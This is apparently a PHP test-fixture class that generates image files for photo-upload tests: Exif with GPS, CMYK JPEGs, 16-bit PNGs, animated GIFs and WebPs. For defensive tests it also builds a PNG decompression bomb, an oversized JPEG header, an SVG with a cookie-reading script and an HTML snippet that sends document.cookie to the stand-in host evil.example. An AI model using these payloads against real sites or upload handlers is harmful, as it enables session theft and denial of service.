<?php
/**
 * The photo tests' corpus, made at run time (nothing binary is committed): ordinary pictures through GD,
 * and what GD cannot write built byte by byte here — Exif blocks with orientation and GPS, a CMYK JPEG
 * (a tiny baseline encoder), 16-bit PNGs, a PNG decompression bomb, animated GIFs (an uncompressed LZW
 * encoder) and animated WebPs (RIFF chunks around GD's still frames).
 */
final class PhotoCorpus {
	public const RED = [255, 0, 0];
	public const GREEN = [0, 255, 0];
	public const BLUE = [0, 0, 255];
	public const WHITE = [255, 255, 255];

	/**
	 * A truecolor GD image filled with one colour, with optional solid rectangles [x, y, w, h, [r, g, b]].
	 *
	 * @param array{0: int, 1: int, 2: int}                                    $fill
	 * @param list<array{0: int, 1: int, 2: int, 3: int, 4: array{0: int, 1: int, 2: int}}> $blocks
	 */
	public static function image(int $width, int $height, array $fill = self::BLUE, array $blocks = []): \GdImage {
		$image = imagecreatetruecolor($width, $height);
		imagefilledrectangle($image, 0, 0, $width - 1, $height - 1, self::colour($fill));

		foreach ($blocks as [$x, $y, $w, $h, $colour]) {
			imagefilledrectangle($image, $x, $y, $x + $w - 1, $y + $h - 1, self::colour($colour));
		}

		return $image;
	}

	/**
	 * 64 × 48, blue, with a red 16 × 16 block at the top-left corner and a green one at the top-right:
	 * where they end up tells both the rotation and any mirroring.
	 */
	public static function markers(): \GdImage {
		return self::image(64, 48, self::BLUE, [[0, 0, 16, 16, self::RED], [48, 0, 16, 16, self::GREEN]]);
	}

	public static function jpeg(\GdImage $image, int $quality = 92): string {
		return self::encode(static fn ($stream) => imagejpeg($image, $stream, $quality));
	}

	public static function png(\GdImage $image): string {
		imagesavealpha($image, true);

		return self::encode(static fn ($stream) => imagepng($image, $stream));
	}

	public static function gdGif(\GdImage $image): string {
		return self::encode(static fn ($stream) => imagegif($image, $stream));
	}

	public static function webp(\GdImage $image, int $quality = 90): string {
		imagesavealpha($image, true);

		return self::encode(static fn ($stream) => imagewebp($image, $stream, $quality));
	}

	/**
	 * A segment (APPn, COM…) put right after a JPEG's SOI.
	 */
	public static function withSegment(string $jpeg, int $marker, string $data): string {
		return substr($jpeg, 0, 2) . "\xFF" . chr($marker) . pack('n', strlen($data) + 2) . $data . substr($jpeg, 2);
	}

	public static function withComment(string $jpeg, string $comment): string {
		return self::withSegment($jpeg, 0xFE, $comment);
	}

	/**
	 * A JPEG grown to exactly $size bytes with comment segments.
	 */
	public static function padTo(string $jpeg, int $size): string {
		while (strlen($jpeg) < $size) {
			// each segment adds 4 bytes of header to its data; never leave a gap under 5 bytes
			$gap = $size - strlen($jpeg);
			$data = min(65533, $gap - 4);

			if ($gap - 4 - $data > 0 && $gap - 4 - $data < 5) {
				$data -= 5;
			}

			$jpeg = self::withComment($jpeg, str_repeat('.', max(1, $data)));
		}

		return $jpeg;
	}

	/**
	 * An Exif APP1 body ("Exif\0\0" + little-endian TIFF) with IFD0 tags and, optionally, a GPS IFD.
	 *
	 * @param array{0: float, 1: float}|null $gps latitude and longitude in degrees (north and east)
	 */
	public static function exif(int $orientation = 1, string $description = '', ?array $gps = null, bool $bigEndian = false): string {
		$entries = [];

		if ($description !== '') {
			$entries[] = [0x010E, 2, strlen($description) + 1, $description . "\0"];
		}

		$entries[] = [0x0112, 3, 1, self::u16($orientation, $bigEndian) . "\0\0"];

		if ($gps !== null) {
			$entries[] = [0x8825, 4, 1, self::u32(0, $bigEndian)];
		}

		$ifd0 = self::ifd($entries, 8, $bigEndian);

		if ($gps !== null) {
			$gpsOffset = 8 + strlen($ifd0);
			$entries[count($entries) - 1][3] = self::u32($gpsOffset, $bigEndian);
			$ifd0 = self::ifd($entries, 8, $bigEndian);
			$rational = static fn (float $degrees): string => self::u32((int)$degrees, $bigEndian) . self::u32(1, $bigEndian) . self::u32((int)(fmod($degrees, 1) * 60), $bigEndian) . self::u32(1, $bigEndian) . self::u32(1234, $bigEndian) . self::u32(100, $bigEndian);
			$ifd0 .= self::ifd([
				[0x0000, 1, 4, "\x02\x02\x00\x00"],
				[0x0001, 2, 2, "N\0\0\0"],
				[0x0002, 5, 3, $rational($gps[0])],
				[0x0003, 2, 2, "E\0\0\0"],
				[0x0004, 5, 3, $rational($gps[1])]
			], $gpsOffset, $bigEndian);
		}

		return "Exif\0\0" . ($bigEndian ? "MM\0*" : "II*\0") . self::u32(8, $bigEndian) . $ifd0;
	}

	/**
	 * A baseline CMYK JPEG with an Adobe marker (values stored inverted, as Photoshop writes them), made
	 * of flat 8 × 8 blocks; $block(bx, by) gives a block's [c, m, y, k] ink from 0 (none) to 255 (full).
	 *
	 * @param callable(int, int): array{0: int, 1: int, 2: int, 3: int} $block
	 */
	public static function cmykJpeg(int $width, int $height, callable $block): string {
		$segment = static fn (int $marker, string $data): string => "\xFF" . chr($marker) . pack('n', strlen($data) + 2) . $data;
		$dcBits = [0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0];
		$dcCodes = self::huffmanCodes($dcBits, range(0, 11));
		$out = "\xFF\xD8";
		$out .= $segment(0xEE, 'Adobe' . pack('nnn', 100, 0, 0) . "\x00");
		$out .= $segment(0xDB, "\x00" . str_repeat("\x01", 64));
		$out .= $segment(0xC0, "\x08" . pack('nn', $height, $width) . "\x04" . "\x01\x11\x00\x02\x11\x00\x03\x11\x00\x04\x11\x00");
		$out .= $segment(0xC4, "\x00" . implode('', array_map('chr', $dcBits)) . implode('', array_map('chr', range(0, 11))));
		$out .= $segment(0xC4, "\x10\x01" . str_repeat("\x00", 15) . "\x00");
		$out .= $segment(0xDA, "\x04\x01\x00\x02\x00\x03\x00\x04\x00\x00\x3F\x00");

		$bits = '';
		$predictor = [0, 0, 0, 0];

		for ($by = 0; $by < intdiv($height + 7, 8); $by++) {
			for ($bx = 0; $bx < intdiv($width + 7, 8); $bx++) {
				$ink = $block($bx, $by);

				for ($c = 0; $c < 4; $c++) {
					// Adobe CMYK is stored inverted: 255 means no ink. A flat block's DC is 8 × (value - 128).
					$dc = 8 * ((255 - $ink[$c]) - 128);
					$diff = $dc - $predictor[$c];
					$predictor[$c] = $dc;
					$category = $diff === 0 ? 0 : strlen(decbin(abs($diff)));
					$bits .= $dcCodes[$category];

					if ($category > 0) {
						$bits .= str_pad(decbin($diff > 0 ? $diff : $diff + (1 << $category) - 1), $category, '0', STR_PAD_LEFT);
					}

					$bits .= '0';   // end of block: no AC coefficients
				}
			}
		}

		$bits .= str_repeat('1', (8 - strlen($bits) % 8) % 8);
		$data = '';

		foreach (str_split($bits, 8) as $byte) {
			$data .= chr(bindec($byte));

			if ($byte === '11111111') {
				$data .= "\x00";
			}
		}

		return $out . $data . "\xFF\xD9";
	}

	/**
	 * A 16-bit-per-channel PNG, RGB or RGBA; $pixel(x, y) gives [r, g, b(, a)] from 0 to 65535.
	 *
	 * @param callable(int, int): list<int> $pixel
	 */
	public static function png16(int $width, int $height, bool $alpha, callable $pixel): string {
		$raw = '';

		for ($y = 0; $y < $height; $y++) {
			$raw .= "\0";

			for ($x = 0; $x < $width; $x++) {
				$raw .= pack('n*', ...array_slice($pixel($x, $y), 0, $alpha ? 4 : 3));
			}
		}

		return self::pngFile($width, $height, 16, $alpha ? 6 : 2, (string)gzcompress($raw));
	}

	/**
	 * A complete, valid PNG of $width × $height black pixels (1-bit grey), deflated as it is made:
	 * 20,000 × 20,000 is 400 megapixels (1.6 GB as GD truecolor) in about 50 KB.
	 */
	public static function pngBomb(int $width = 20000, int $height = 20000): string {
		$deflate = deflate_init(ZLIB_ENCODING_DEFLATE, ['level' => 9]);
		$rows = str_repeat("\0" . str_repeat("\0", intdiv($width + 7, 8)), 100);
		$data = '';

		for ($y = 0; $y < $height; $y += 100) {
			$data .= deflate_add($deflate, $y + 100 <= $height ? $rows : substr($rows, 0, ($height - $y) * (1 + intdiv($width + 7, 8))), ZLIB_NO_FLUSH);
		}

		$data .= deflate_add($deflate, '', ZLIB_FINISH);

		return self::pngFile($width, $height, 1, 0, $data);
	}

	/**
	 * A JPEG that is only a header declaring $width × $height (no pixels needed to refuse it).
	 */
	public static function jpegHeaderBomb(int $width = 60000, int $height = 60000): string {
		return "\xFF\xD8\xFF\xC0\x00\x11\x08" . pack('nn', $height, $width) . "\x03\x01\x22\x00\x02\x11\x01\x03\x11\x01\xFF\xD9";
	}

	/**
	 * A GIF89a built here (uncompressed LZW: literal codes with a clear code every 250), frames of palette
	 * indices over a 256-colour table. $frames: list of [width, height, index-of-(x, y) callable, delay].
	 *
	 * @param list<array{0: int, 1: int, 2: int}>                        $palette
	 * @param list<array{0: int, 1: int, 2: callable(int, int): int}>    $frames
	 */
	public static function gif(int $width, int $height, array $palette, array $frames, string $comment = '', bool $trailer = true): string {
		$table = '';

		for ($i = 0; $i < 256; $i++) {
			$table .= implode('', array_map('chr', $palette[$i] ?? [0, 0, 0]));
		}

		$out = 'GIF89a' . pack('vv', $width, $height) . "\xF7\x00\x00" . $table;

		if (count($frames) > 1) {
			$out .= "\x21\xFF\x0BNETSCAPE2.0\x03\x01\x00\x00\x00";
		}

		if ($comment !== '') {
			$out .= "\x21\xFE" . self::subBlocks($comment);
		}

		foreach ($frames as [$frameWidth, $frameHeight, $index]) {
			$codes = [256];
			$since = 0;

			for ($y = 0; $y < $frameHeight; $y++) {
				for ($x = 0; $x < $frameWidth; $x++) {
					$codes[] = $index($x, $y);

					if (++$since === 250) {
						$codes[] = 256;
						$since = 0;
					}
				}
			}

			$codes[] = 257;
			$bits = 0;
			$count = 0;
			$data = '';

			foreach ($codes as $code) {
				$bits |= $code << $count;
				$count += 9;

				while ($count >= 8) {
					$data .= chr($bits & 0xFF);
					$bits >>= 8;
					$count -= 8;
				}
			}

			if ($count > 0) {
				$data .= chr($bits & 0xFF);
			}

			$out .= "\x21\xF9\x04\x04\x0A\x00\x00\x00";    // graphic control: 100 ms, no transparency
			$out .= "\x2C" . pack('vvvv', 0, 0, $frameWidth, $frameHeight) . "\x00" . "\x08" . self::subBlocks($data);
		}

		return $out . ($trailer ? "\x3B" : '');
	}

	/**
	 * An animated WebP (VP8X + ANIM + one ANMF per frame) around still WebPs GD wrote.
	 *
	 * @param list<string> $stills
	 */
	public static function animatedWebp(int $width, int $height, array $stills): string {
		$u24 = static fn (int $value): string => substr(pack('V', $value), 0, 3);
		$chunk = static fn (string $id, string $data): string => $id . pack('V', strlen($data)) . $data . (strlen($data) & 1 ? "\0" : '');
		$body = $chunk('VP8X', "\x02\0\0\0" . $u24($width - 1) . $u24($height - 1)) . $chunk('ANIM', "\xFF\xFF\xFF\xFF\x00\x00");

		foreach ($stills as $still) {
			$body .= $chunk('ANMF', $u24(0) . $u24(0) . $u24($width - 1) . $u24($height - 1) . $u24(100) . "\x00" . substr($still, 12));
		}

		return 'RIFF' . pack('V', 4 + strlen($body)) . 'WEBP' . $body;
	}

	public static function svg(): string {
		return '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><script>alert(document.cookie)</script><rect width="100" height="100" fill="red"/></svg>';
	}

	public static function html(): string {
		return "<!DOCTYPE html>\n<html><body><img src=x onerror=\"fetch('//evil.example/'+document.cookie)\"></body></html>\n";
	}

	/**
	 * The colour of a pixel as [r, g, b].
	 *
	 * @return array{0: int, 1: int, 2: int}
	 */
	public static function rgbAt(\GdImage $image, int $x, int $y): array {
		$colour = imagecolorsforindex($image, imagecolorat($image, $x, $y));

		return [$colour['red'], $colour['green'], $colour['blue']];
	}

	/**
	 * @param array{0: int, 1: int, 2: int} $rgb
	 */
	public static function colour(array $rgb): int {
		return ($rgb[0] << 16) | ($rgb[1] << 8) | $rgb[2];
	}

	private static function encode(callable $write): string {
		$stream = fopen('php://memory', 'w+b');
		$write($stream);
		rewind($stream);
		$bytes = (string)stream_get_contents($stream);
		fclose($stream);

		return $bytes;
	}

	private static function pngFile(int $width, int $height, int $depth, int $colourType, string $idat): string {
		$chunk = static fn (string $type, string $data): string => pack('N', strlen($data)) . $type . $data . pack('N', crc32($type . $data));

		return "\x89PNG\r\n\x1A\n" . $chunk('IHDR', pack('NNCCCCC', $width, $height, $depth, $colourType, 0, 0, 0)) . $chunk('IDAT', $idat) . $chunk('IEND', '');
	}

	private static function subBlocks(string $data): string {
		$out = '';

		foreach (str_split($data, 255) as $part) {
			$out .= chr(strlen($part)) . $part;
		}

		return $out . "\x00";
	}

	/**
	 * Canonical Huffman codes (JPEG Annex C) as bit strings, by symbol.
	 *
	 * @param list<int> $counts codes of each length 1–16
	 * @param list<int> $symbols
	 *
	 * @return array<int, string>
	 */
	private static function huffmanCodes(array $counts, array $symbols): array {
		$codes = [];
		$code = 0;
		$k = 0;

		foreach ($counts as $i => $count) {
			for ($j = 0; $j < $count; $j++) {
				$codes[$symbols[$k++]] = str_pad(decbin($code++), $i + 1, '0', STR_PAD_LEFT);
			}

			$code <<= 1;
		}

		return $codes;
	}

	/**
	 * @param list<array{0: int, 1: int, 2: int, 3: string}> $entries tag, type, count, value bytes (sorted by tag)
	 */
	private static function ifd(array $entries, int $start, bool $bigEndian): string {
		$table = self::u16(count($entries), $bigEndian);
		$extra = '';
		$dataAt = $start + 2 + 12 * count($entries) + 4;

		foreach ($entries as [$tag, $type, $count, $value]) {
			$table .= self::u16($tag, $bigEndian) . self::u16($type, $bigEndian) . self::u32($count, $bigEndian);

			if (strlen($value) <= 4) {
				$table .= str_pad($value, 4, "\0");
			} else {
				$table .= self::u32($dataAt + strlen($extra), $bigEndian);
				$extra .= $value . (strlen($value) & 1 ? "\0" : '');
			}
		}

		return $table . self::u32(0, $bigEndian) . $extra;
	}

	private static function u16(int $value, bool $bigEndian): string {
		return pack($bigEndian ? 'n' : 'v', $value);
	}

	private static function u32(int $value, bool $bigEndian): string {
		return pack($bigEndian ? 'N' : 'V', $value);
	}
}
